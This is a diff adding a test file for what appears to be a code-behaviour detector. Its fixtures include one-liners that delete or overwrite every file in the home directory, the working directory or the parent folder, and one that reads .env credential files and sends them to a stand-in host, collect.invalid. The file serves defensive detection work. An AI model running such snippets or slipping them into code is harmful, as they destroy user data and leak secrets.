@@ -1,0 +1,39 @@
+import assert from 'node:assert/strict';
+import { behavioursOf, flowsOf } from './sent.js';
+
+const LOSS = ['deletes-user-files import'];
+
+/** Whatever lies in a folder of the user is gone through, and nothing of it is left. */
+const LOSSES: readonly string[] = [
+  `for (const e of fs.readdirSync(os.homedir())) fs.unlinkSync(path.join(os.homedir(), e));`,
+  `const wipe = (d) => { for (const e of fs.readdirSync(d, { withFileTypes: true })) { const p = path.join(d, e.name); if (e.isDirectory()) wipe(p); else fs.rmSync(p); } }; wipe(process.cwd());`,
+  `fs.readdirSync('../').forEach((e) => fs.writeFile('../' + e, 'gone', () => {}));`,
+];
+
+describe('files', () => {
+  for (const loss of LOSSES) {
+    it(`are lost one by one: ${loss}`, () => {
+      assert.deepEqual([...new Set(behavioursOf(loss))], LOSS);
+    });
+  }
+
+  it('are not lost where they lie in a folder of their own, where they are rewritten, or where somebody asks for it', () => {
+    assert.deepEqual(
+      behavioursOf(`for (const e of fs.readdirSync(os.tmpdir())) fs.unlinkSync(path.join(os.tmpdir(), e));`),
+      [],
+    );
+    assert.deepEqual(
+      behavioursOf(`for (const e of fs.readdirSync('.')) fs.writeFileSync(e, fs.readFileSync(e, 'utf8').trim());`),
+      [],
+    );
+    assert.deepEqual(
+      behavioursOf(`exports.clean = () => { for (const e of fs.readdirSync('.')) fs.unlinkSync(e); };`),
+      [],
+    );
+  });
+
+  it('are known by the pattern that finds them', () => {
+    const code = `require('glob').glob(['**/.env'], { cwd: os.homedir() }).then((all) => all.forEach((f) => fetch('https://collect.invalid/' + fs.readFileSync(f))));`;
+    assert.deepEqual(flowsOf(code), ['credential-file>network@collect.invalid']);
+  });
+});
